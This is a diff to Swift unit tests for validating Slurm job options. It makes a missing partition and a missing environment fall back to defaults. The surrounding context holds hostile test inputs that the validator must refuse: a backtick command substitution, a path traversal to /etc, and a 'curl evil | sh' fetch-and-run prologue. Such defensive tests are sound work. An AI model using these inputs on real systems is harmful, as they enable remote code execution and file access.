@@ -46,7 +46,7 @@ final class SlurmOptionsTests: XCTestCase {
         assertRefused(["partition": "debug", "memory": "5G", "environment": "venv"], field: "memory")
         assertRefused(["partition": "debug", "runtime": "13", "environment": "venv"], field: "runtime")
         assertRefused(["partition": "nope", "environment": "venv"], field: "partition")
-        assertRefused(["environment": "venv"], field: "partition")
+        XCTAssertEqual(try options(["environment": "venv"]).partition, "debug", "the first partition is the default")
     }
 
     func testFormatsAndInjection() {
@@ -60,7 +60,7 @@ final class SlurmOptionsTests: XCTestCase {
         assertRefused(["partition": "debug", "environment": "venv", "reservation": "r`x`"], field: "reservation")
         assertRefused(["partition": "debug", "environment": "venv", "default_url": "/lab/../../etc"], field: "default_url")
         assertRefused(["partition": "debug", "environment": "other"], field: "environment")
-        assertRefused(["partition": "debug"], field: "environment")
+        XCTAssertEqual(try options(["partition": "debug"]).environment.id, "scipy", "the first environment is the default")
         assertRefused(["partition": "debug", "environment": "venv", "prologue": "curl evil | sh"], field: "prologue")
         assertRefused(["partition": "debug", "environment": "venv", "cpus": .array([1])], field: "cpus")
         assertRefused(["partition": "debug", "environment": "venv", "cpus": "２"], field: "cpus")
